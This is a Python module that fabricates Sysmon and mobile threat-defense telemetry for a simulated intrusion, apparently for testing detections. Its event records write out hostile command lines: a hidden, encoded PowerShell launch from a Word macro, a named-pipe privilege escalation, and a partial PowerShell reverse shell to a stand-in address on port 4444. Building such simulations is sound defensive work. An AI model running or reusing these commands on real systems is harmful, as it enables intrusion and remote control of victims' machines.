"""Telemetry of the seed scenario, as a Sysmon sensor on the victim would report it. Pure.

A user opens a Word document with a macro: Word spawns PowerShell (execution), a privilege
escalation follows (named-pipe impersonation from services.exe), PowerShell injects a thread
into explorer.exe, and a PowerShell reverse shell connects back to the attacker.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime
from typing import Any

SYSMON = "Microsoft-Windows-Sysmon/Operational"
USER = "CONTOSO\\alex"


@dataclass(frozen=True)
class Step:
    name: str
    events: list[dict[str, Any]]


def _base(computer: str, event_id: int, at: datetime) -> dict[str, Any]:
    return {
        "EventID": event_id,
        "Channel": SYSMON,
        "Computer": computer,
        "UtcTime": at.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
    }


def benign_events(computer: str, at: datetime) -> list[dict[str, Any]]:
    return [
        {
            **_base(computer, 1, at),
            "Image": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "CommandLine": '"WINWORD.EXE" /n "C:\\Users\\alex\\Documents\\Q3 plan.docx"',
            "ParentImage": "C:\\Windows\\explorer.exe",
            "User": USER,
            "IntegrityLevel": "Medium",
        },
        {
            **_base(computer, 3, at),
            "Image": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "DestinationIp": "52.109.8.20",
            "DestinationPort": 443,
            "Initiated": "true",
        },
    ]


def attack_steps(computer: str, at: datetime) -> list[Step]:
    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    return [
        Step(
            "macro runs code: Word spawns PowerShell",
            [
                {
                    **_base(computer, 1, at),
                    "Image": powershell,
                    "OriginalFileName": "PowerShell.EXE",
                    "CommandLine": "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A",
                    "ParentImage": word,
                    "ParentCommandLine": (
                        '"WINWORD.EXE" /n "C:\\Users\\alex\\Downloads\\invoice.docm"'
                    ),
                    "User": USER,
                    "IntegrityLevel": "Medium",
                }
            ],
        ),
        Step(
            "privilege escalation: named-pipe impersonation",
            [
                {
                    **_base(computer, 1, at),
                    "Image": "C:\\Windows\\System32\\cmd.exe",
                    "CommandLine": "cmd.exe /c echo vzkqnb > \\\\.\\pipe\\vzkqnb",
                    "ParentImage": "C:\\Windows\\System32\\services.exe",
                    "User": "NT AUTHORITY\\SYSTEM",
                    "IntegrityLevel": "System",
                }
            ],
        ),
        Step(
            "process injection: remote thread into explorer.exe",
            [
                {
                    **_base(computer, 8, at),
                    "SourceImage": powershell,
                    "TargetImage": "C:\\Windows\\explorer.exe",
                    "StartAddress": "0x00000000045A0000",
                    "StartFunction": "",
                }
            ],
        ),
        Step(
            "remote shell to the attacker",
            [
                {
                    **_base(computer, 1, at),
                    "Image": powershell,
                    "CommandLine": (
                        "powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('203.0.113.7',"
                        "4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};"
                        'while(($i=$s.Read($b,0,$b.Length)) -ne 0){...}"'
                    ),
                    "ParentImage": powershell,
                    "User": USER,
                    "IntegrityLevel": "High",
                },
                {
                    **_base(computer, 3, at),
                    "Image": powershell,
                    "DestinationIp": "203.0.113.7",
                    "DestinationPort": 4444,
                    "Initiated": "true",
                },
            ],
        ),
    ]


def _iso(at: datetime) -> str:
    return at.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def mobile_attack_steps(device: str, platform: str, at: datetime) -> list[Step]:
    """Findings the threat-defense app of a phone reports as its user is targeted.

    A phishing text leads to a fake sign-in page (web protection blocks it), the user then
    sideloads a malicious "VPN" app, and the device is found jailbroken (iOS) or rooted
    (Android). `platform` is `iOS` or `android`; each finding carries a stable `findingId`, so
    sending a step twice raises nothing twice.
    """
    ios = platform == "iOS"
    app = {"bundleId": "com.freevpn.secure"} if ios else {"packageId": "com.freevpn.secure"}
    return [
        Step(
            "phishing text: web protection blocks the fake sign-in page",
            [
                {
                    "findingId": f"{device}-phish-1",
                    "findingType": "phishingSiteBlocked",
                    "detectedTime": _iso(at),
                    "url": "https://login.contoso-payroll.example.net/signin",
                }
            ],
        ),
        Step(
            "a malicious 'VPN' app is sideloaded",
            [
                {
                    "findingId": f"{device}-app-1",
                    "findingType": "maliciousApp",
                    "detectedTime": _iso(at),
                    "appName": "Free VPN Secure",
                    "sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
                    **app,
                }
            ],
        ),
        Step(
            "the device is jailbroken" if ios else "the device is rooted",
            [
                {
                    "findingId": f"{device}-jailbreak-1",
                    "findingType": "jailbroken" if ios else "rooted",
                    "detectedTime": _iso(at),
                }
            ],
        ),
    ]
